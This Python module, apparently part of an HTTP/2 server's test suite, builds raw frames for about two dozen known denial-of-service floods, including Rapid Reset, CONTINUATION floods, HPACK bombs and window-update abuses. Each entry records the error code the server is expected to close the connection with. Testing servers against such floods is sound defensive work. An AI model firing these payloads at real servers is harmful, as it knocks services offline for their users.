"""Attacks over HTTP/2, each by the name under which it is known."""

from __future__ import annotations

import dataclasses
import itertools
import struct
from collections.abc import Callable, Iterator

from ..priorities import frames
from . import fields
from .fields import CONTINUATION, PRIORITY, PRIORITY_UPDATE

# Frames sent at a time: several of a socket's buffers, so that the server is never without.
BURST = 500
# Streams of a connection that an attack uses up before it goes on with another.
STREAMS = 4000
CALM, FLOW, PROTOCOL = "ENHANCE_YOUR_CALM", "FLOW_CONTROL_ERROR", "PROTOCOL_ERROR"


@dataclasses.dataclass(frozen=True)
class Flood:
    """As much as goes into the socket, on one connection after the other."""

    name: str
    known_as: str
    # Bytes behind the preface and the first SETTINGS.
    first: bytes
    # Pieces of so many frames each; the connection is given up when they end.
    pieces: Callable[[], Iterator[tuple[bytes, int]]]
    # With which code the server must cut the connection off; without one it may go on for as long as it likes.
    cut_with: str | None
    reads: bool = True
    server: str = "files"
    settings: tuple[tuple[int, int], ...] = ()
    # How long the end of the connection is waited for when all has been sent.
    waits: float = 0.5
    # So many connections are given up at once. Then one is kept until the server says something: a client that opens
    # more than a server can accept fills its backlog, and others wait behind it at any server.
    given_up_at_once: int = 0


def again(piece: bytes) -> Callable[[], Iterator[tuple[bytes, int]]]:
    """The same, without end."""
    return lambda: itertools.repeat((piece * BURST, BURST))


def on_streams(made: Callable[[int], bytes], count: int, streams: int = STREAMS,
               burst: int = BURST) -> Callable[[], Iterator[tuple[bytes, int]]]:
    """On one stream after the other, so many frames on each."""
    def pieces() -> Iterator[tuple[bytes, int]]:
        numbers = range(1, 2 * streams, 2)
        for at in range(0, len(numbers), burst):
            if at not in kept:
                kept[at] = b"".join(map(made, numbers[at:at + burst])), count * len(numbers[at:at + burst])
            yield kept[at]
    # Pieces that were made once are sent again on the next connection.
    kept: dict[int, tuple[bytes, int]] = {}
    return pieces


def rapid_reset(stream: int) -> bytes:
    return fields.headers(stream, fields.request()) + reset(stream)


def reset(stream: int) -> bytes:
    return frames.frame(frames.RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_you_reset(stream: int) -> bytes:
    """A window that is opened by nothing: RFC 9113 §6.9 has the server reset the stream."""
    return fields.headers(stream, fields.request()) + frames.window_update(stream, 0)


def bomb(stream: int) -> bytes:
    """Each byte of the block stands for a field of 4,000 bytes; the first request puts it into the table."""
    kept = fields.literal(b"x-bomb", b"b" * 3900, kept=True) if stream == 1 else b""
    return fields.headers(stream, fields.request() + kept + b"\xbe" * 15_000)


def table_sizes(stream: int) -> bytes:
    """The table is emptied and filled in each request, as often as RFC 7541 §4.2 lets a block do it."""
    return fields.headers(stream, b"\x20" + fields.integer(4096, 5, 0x20) + fields.request() + b"".join(
        fields.literal(b"x-%d" % number, b"v" * 30, kept=True) for number in range(50)))


def posted(stream: int, *more: bytes) -> bytes:
    return fields.headers(stream, fields.request(b"/", fields.POST, *more), end_stream=False)


def unread_upload() -> Iterator[tuple[bytes, int]]:
    """More and more of a body, to a server that has answered and is not interested."""
    for stream in range(1, 2 * STREAMS, 2):
        yield posted(stream) + frames.frame(frames.DATA, 0, stream, bytes(16384)) * 3, 4


def beyond_window() -> Iterator[tuple[bytes, int]]:
    """To an echo that cannot send and so does not read."""
    yield posted(1) + frames.frame(frames.DATA, 0, 1, bytes(16384)) * 200, 201


def tiny_windows() -> Iterator[tuple[bytes, int]]:
    """128 large responses, asked for by a client that takes them byte by byte."""
    yield b"".join(fields.headers(stream, fields.request(b"/large")) for stream in range(1, 256, 2)), 128
    piece = b"".join(frames.window_update(stream, 1) for stream in range(1, 256, 2))
    while True:
        yield piece, 128


def large_window() -> bytes:
    return frames.window_update(0, frames.LARGEST_WINDOW - frames.FIRST_WINDOW)


def priorities(number: int) -> bytes:
    """A tree that changes all the while, of streams that are never opened."""
    stream, other = 2 * number + 1, 2 * (number * 7919 % STREAMS) + 1
    return frames.frame(PRIORITY, 0, stream, struct.pack(">IB", other if other != stream else 0, 15))


def priority_update(number: int) -> bytes:
    stream = 2 * number + 1
    return frames.frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", stream) + b"u=%d, i" % (number % 8))


SETTINGS = frames.settings({frames.INITIAL_WINDOW_SIZE: 65_535})
PING = frames.frame(frames.PING, 0, 0, b"pingpong")
OPEN_HEADERS = fields.headers(1, fields.request(), end_headers=False)
GET_LARGE = fields.headers(1, fields.request(b"/large"))

FLOODS = (
    Flood("rapid reset", "CVE-2023-44487", b"", on_streams(rapid_reset, 2), CALM),
    Flood("MadeYouReset", "CVE-2025-8671", b"", on_streams(made_you_reset, 2), CALM),
    Flood("CONTINUATION flood, with bytes", "CVE-2024-27316", OPEN_HEADERS,
          again(frames.frame(CONTINUATION, 0, 1, fields.literal(b"x-a", b"a" * 1000))), CALM),
    Flood("CONTINUATION flood, empty", "CVE-2024-27316", OPEN_HEADERS, again(frames.frame(CONTINUATION, 0, 1)), CALM),
    Flood("empty DATA frames", "CVE-2019-9518", posted(1), again(frames.frame(frames.DATA, 0, 1)), CALM, server="echo"),
    Flood("DATA of padding alone", "CVE-2019-9518", posted(1),
          again(frames.frame(frames.DATA, frames.PADDED, 1, b"\x01\x00")), CALM, server="echo"),
    Flood("SETTINGS flood", "CVE-2019-9515", b"", again(SETTINGS), CALM),
    Flood("SETTINGS flood, answers unread", "CVE-2019-9515", b"", again(SETTINGS), CALM, reads=False),
    Flood("PING flood", "CVE-2019-9512", b"", again(PING), CALM),
    Flood("PING flood, answers unread", "CVE-2019-9512", b"", again(PING), CALM, reads=False),
    Flood("PRIORITY flood", "CVE-2019-9513", b"", on_streams(lambda stream: priorities(stream // 2), 1, 40_000), CALM),
    Flood("PRIORITY_UPDATE flood", "RFC 9218 §7.1", b"",
          on_streams(lambda stream: priority_update(stream // 2 % 100), 1, 40_000), CALM),
    Flood("PRIORITY_UPDATE of streams that may not be opened", "RFC 9218 §7.1", b"",
          on_streams(lambda stream: priority_update(stream // 2 + 1000), 1, 40_000), PROTOCOL),
    Flood("PRIORITY_UPDATE of one response", "RFC 9218 §7.1", GET_LARGE,
          again(priority_update(0) + frames.frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 1) + b"u=6")), CALM),
    Flood("WINDOW_UPDATE by the byte", "CVE-2019-9511", GET_LARGE, again(frames.window_update(1, 1)), CALM,
          settings=((frames.INITIAL_WINDOW_SIZE, 0),)),
    Flood("tiny windows, large responses", "CVE-2019-9511", large_window(), tiny_windows, CALM,
          settings=((frames.INITIAL_WINDOW_SIZE, 1),)),
    Flood("SETTINGS that open and shut 128 windows", "CVE-2019-9517", large_window() + b"".join(
          fields.headers(stream, fields.request(b"/large")) for stream in range(1, 256, 2)),
          again(frames.settings({frames.INITIAL_WINDOW_SIZE: 1}) + frames.settings({frames.INITIAL_WINDOW_SIZE: 0})), CALM),
    Flood("HPACK bombs", "CVE-2016-6581", b"", on_streams(bomb, 1, 1000, 20), None),
    Flood("HPACK tables emptied and filled", "–", b"", on_streams(table_sizes, 1, STREAMS, 50), None),
    Flood("window overflow, connection", "RFC 9113 §6.9.1", GET_LARGE,
          again(frames.window_update(0, frames.LARGEST_WINDOW)), FLOW),
    Flood("window overflow, streams", "RFC 9113 §6.9.1", b"",
          on_streams(lambda stream: fields.headers(stream, fields.request(b"/large"))
                     + frames.window_update(stream, frames.LARGEST_WINDOW), 2), CALM),
    Flood("DATA beyond the window", "RFC 9113 §6.9", b"", beyond_window, None, server="echo",
          settings=((frames.INITIAL_WINDOW_SIZE, 0),)),
    Flood("uploads nobody reads", "–", b"", unread_upload, None),
    Flood("requests, answers unread", "CVE-2019-9517", b"", on_streams(
          lambda stream: fields.headers(stream, fields.request(b"/large")), 1), CALM, reads=False),
    Flood("unknown frames", "RFC 9113 §5.5", b"", again(frames.frame(0xfa, 0, 0)), CALM),
    Flood("HTTP/2 connections that come and go", "–", b"", lambda: iter([(fields.headers(1, fields.request()), 1)]), None,
          waits=0.0, given_up_at_once=16),
)
